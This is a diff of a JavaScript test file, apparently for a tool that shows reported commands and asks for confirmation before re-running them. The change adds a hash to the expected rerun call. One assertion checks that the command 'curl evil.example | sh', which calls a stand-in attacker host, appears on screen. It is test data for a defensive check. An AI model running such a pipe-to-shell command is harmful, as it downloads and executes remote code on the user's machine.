@@ -160,7 +160,9 @@ describe('nor runs commands again that were not on the screen', () => {
         assert.match(dash.state().armed?.question ?? '', /Run 60 reported commands/);
         for (let part = 1; part <= 60; part += 1) assert.match(seen, new RegExp(`part${part}\\b`));
         assert.ok(seen.replaceAll(/[│║\s]+/g, ' ').includes('curl evil.example | sh'), seen.slice(-2500));
-        assert.deepEqual(dash.keys('y').calls(), [{ operation: 'verify.rerun', input: { session: 's-1' } }]);
+        assert.deepEqual(dash.keys('y').calls(), [
+          { operation: 'verify.rerun', input: { session: 's-1', hash: 'e'.repeat(64) } },
+        ]);
       });
 
   it('one that stands in the list is asked for at once, and is still there with the question', () => {
